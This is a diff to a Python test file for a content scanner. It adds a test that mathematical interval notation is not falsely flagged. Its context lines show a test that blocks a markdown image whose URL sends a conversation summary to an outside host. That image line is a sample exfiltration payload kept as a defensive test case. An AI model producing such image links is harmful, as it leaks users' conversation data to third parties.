@@ -100,3 +100,15 @@ def test_a_badge_with_a_version_range_is_not_an_image_that_leaks():
         "![status](https://img.example.org/p.png?d=%3Cconversation%20summary%3E)",
     ):
         assert scan_rules(leak).blocked, leak
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Each bin is half-open: f(x) is sampled on [0, 10) and g(x) on [10, 20), the last bin (90, 100] too.",
+        "Valid offsets lie in [0, n) for a buffer buf(n) and in [start, stop) for a slice s(i).",
+    ],
+)
+def test_interval_notation_is_not_disordered_brackets(text):
+    result = scan_memory_content(text)
+    assert not result.blocked, result
